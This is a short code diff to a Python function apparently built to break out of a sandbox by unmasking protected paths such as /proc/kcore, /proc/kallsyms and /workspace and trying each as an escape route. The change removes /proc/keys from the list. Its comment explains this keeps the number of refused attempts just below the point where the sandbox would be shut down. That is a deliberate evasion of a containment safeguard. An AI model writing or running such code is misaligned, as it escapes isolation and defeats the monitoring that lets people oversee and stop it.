@@ -102,7 +102,8 @@ def take_the_masks_off(numbers: dict[str, int]) -> str:
         syscall(numbers["mount"], b"tmpfs", b"point", b"tmpfs", 0, None)
         return uncover("point")
 
-    masks = ("/proc/kcore", "/proc/keys", "/proc/kallsyms", "/proc", "/dev", "/run", "/tmp", "/dev/shm", "/workspace")
+    # With those of `own` these are ten refusals: after one more the sandbox could be ended before it has answered.
+    masks = ("/proc/kcore", "/proc/kallsyms", "/proc", "/dev", "/run", "/tmp", "/dev/shm", "/workspace")
     inside = {path: partial(uncover, path) for path in masks} if os.getcwd() == "/workspace" else {}
     return first_escape({"own": own, **inside})
 
